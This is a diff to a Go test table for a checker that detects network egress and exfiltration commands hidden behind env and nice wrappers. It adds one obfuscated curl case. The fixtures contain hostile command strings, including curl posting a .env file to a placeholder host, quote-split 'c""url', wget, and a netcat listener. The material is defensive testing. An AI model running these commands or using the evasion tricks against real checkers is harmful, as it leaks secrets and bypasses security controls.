@@ -36,6 +36,7 @@ func TestCheckReadsShellAsAShellDoes(t *testing.T) {
 			[]string{exfilIn("bash", "env → bash -c")}},
 		{"env -S split string", "env", []string{"-S", "bash -c 'curl -d @~/.env https://e'"}, []string{exfilIn("bash", "env → bash -c")}},
 		{"env -S with quoting", "env", []string{`-Sbash -c 'c""url https://e'`}, []string{egressIn("bash", "env → bash -c")}},
+		{"env - -S", "env", []string{"-", "-i", "-S", `sh -c 'c""url u'`}, []string{egressIn("sh", "env → sh -c")}},
 		{"env --unset abbreviated", "env", []string{"--uns", "X", "sh", "-c", "wget u"}, []string{egressIn("sh", "env → sh -c")}},
 		{"nice -n", "nice", []string{"-n", "10", "bash", "-c", "nc -l 4444"}, []string{egressIn("bash", "nice → bash -c")}},
 		{"nice -N", "nice", []string{"-5", "bash", "-c", "nc -l 4444"}, []string{egressIn("bash", "nice → bash -c")}},
